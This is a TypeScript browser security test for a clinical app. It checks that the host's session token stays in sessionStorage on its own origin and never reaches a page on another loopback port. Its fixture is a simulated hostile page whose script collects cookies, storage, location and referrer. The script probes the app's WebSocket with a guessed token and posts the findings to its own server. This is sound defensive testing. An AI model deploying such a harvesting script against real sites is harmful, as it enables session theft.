import { mkdtemp, rm } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../support/chromium.ts'
import { startHostProcess, type HostProcess, placeOnly } from '../support/host-process.ts'
import { signInFirstClinician } from '../support/host-socket.ts'
import { ensureRendererBuilt } from '../support/renderer-build.ts'

// The browser host's credential stays with its own origin, port included. Another program on this
// machine serving pages on another loopback port — which the clinician's browser may visit, for
// instance through a link — receives nothing that opens a session: no cookie (there is none), no
// token in the address, the referrer or storage, and its page cannot open the contract socket.

/** The in-page globals the callbacks below use (this file compiles without the DOM library). */
declare const window: {
  location: { href: string }
  sessionStorage: { getItem(key: string): string | null }
}
declare const document: { body: { appendChild(node: object): void }; createElement(tag: 'a'): { href: string; textContent: string; id: string } }

interface SeenRequest {
  url: string
  headers: IncomingMessage['headers']
  body: string
}

let dir: string
let host: HostProcess
let other: Server
let otherOrigin: string
const seenByOther: SeenRequest[] = []
let browser: Browser
let context: BrowserContext
let page: Page

/**
 * What another local program's page would try, with the host's port known: everything the browser
 * lets it read, and a contract socket with and without a guessed protocol list. It reports back to
 * its own server.
 */
function hostilePage(hostPort: number): string {
  return `<!doctype html><html><body><p id="done">…</p><script>
  (async () => {
    const report = { cookie: document.cookie, session: JSON.stringify({ ...sessionStorage }), local: JSON.stringify({ ...localStorage }),
      href: location.href, referrer: document.referrer, opened: [] }
    for (const protocols of [[], ['huatuo.v1'], ['huatuo.v1', 'huatuo.token.' + 'A'.repeat(43)]]) {
      report.opened.push(await new Promise((resolve) => {
        const socket = new WebSocket('ws://127.0.0.1:${hostPort}/ws', protocols)
        socket.onopen = () => { resolve('open'); socket.close() }
        socket.onerror = () => resolve('refused')
      }))
    }
    try { report.page = (await (await fetch('http://127.0.0.1:${hostPort}/', { mode: 'no-cors', credentials: 'include' })).text()) } catch (e) { report.page = 'blocked' }
    await fetch('/report', { method: 'POST', body: JSON.stringify(report) })
    document.getElementById('done').textContent = 'reported'
  })()
  </script></body></html>`
}

beforeAll(async () => {
  await ensureRendererBuilt()
  dir = await mkdtemp(join(tmpdir(), 'huatuo-credential-'))
  host = await startHostProcess({ args: ['--db', join(dir, 'records.db'), '--data-dir', join(dir, 'data')], env: { HUATUO_HOSPITAL_CONFIG: join(dir, 'none.json') } })
  await signInFirstClinician(host.port, host.token)
  other = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (chunk: string) => (body += chunk))
    request.on('end', () => {
      seenByOther.push({ url: request.url ?? '', headers: request.headers, body })
      if (request.url === '/report') return void response.end('ok')
      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' })
      response.end(hostilePage(host.port))
    })
  })
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve))
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
  browser = await launchChromium()
  context = await browser.newContext()
  page = await context.newPage()
})

afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => other?.close(resolve))
  await host?.stop()
  if (dir) await rm(dir, { recursive: true, force: true })
})

describe("the browser host's credential", () => {
  it('moves from the address to sessionStorage before the page does anything else, and sets no cookie', async () => {
    const navigations: string[] = []
    page.on('framenavigated', (frame) => navigations.push(frame.url()))
    await page.goto(host.url)
    await page.getByTestId('session-gate').or(page.locator('h1')).first().waitFor()
    // The address keeps only the window's place (a screen, a consultation id): never the token.
    expect(page.url()).toMatch(placeOnly(host.origin))
    expect(await page.evaluate(() => window.location.href)).toMatch(placeOnly(host.origin))
    expect(await page.evaluate(() => window.sessionStorage.getItem('huatuo.hostToken'))).toBe(host.token)
    expect(await context.cookies()).toEqual([])
  })

  it('reaches no page on another loopback port the page links to, and that page cannot open a session', async () => {
    await page.evaluate((href) => {
      const link = document.createElement('a')
      link.href = href
      link.textContent = 'elsewhere'
      link.id = 'elsewhere'
      document.body.appendChild(link)
    }, `${otherOrigin}/landing`)
    await page.locator('#elsewhere').click()
    await page.locator('#done', { hasText: 'reported' }).waitFor({ timeout: 30_000 })

    const report = JSON.parse(seenByOther.find((seen) => seen.url === '/report')!.body) as { opened: string[]; [key: string]: unknown }
    expect(report.opened).toEqual(['refused', 'refused', 'refused'])
    // Nothing the other server received, and nothing its page could read, carries the token.
    expect(seenByOther.length).toBeGreaterThanOrEqual(2)
    for (const seen of seenByOther) {
      expect(seen.headers.cookie, seen.url).toBeUndefined()
      expect(seen.headers.referer ?? '', seen.url).not.toContain(String(host.port))
      expect(JSON.stringify(seen), seen.url).not.toContain(host.token)
    }
    expect(report['session']).toBe('{}')
    expect(report['cookie']).toBe('')
  })

  it('is still there when the clinician comes back to the workstation tab', async () => {
    await page.goBack()
    await page.locator('h1').waitFor()
    expect(await page.evaluate(() => window.sessionStorage.getItem('huatuo.hostToken'))).toBe(host.token)
    // The address keeps only the window's place (a screen, a consultation id): never the token.
    expect(page.url()).toMatch(placeOnly(host.origin))
  })

  it('is not in a new tab opened at the bare address: the page says to open the printed address', async () => {
    const bare = await context.newPage()
    await bare.goto(`${host.origin}/`)
    await bare.getByText('#token=').first().waitFor({ timeout: 30_000 })
    expect(await bare.evaluate(() => window.sessionStorage.getItem('huatuo.hostToken'))).toBeNull()
    await bare.close()
  })
})
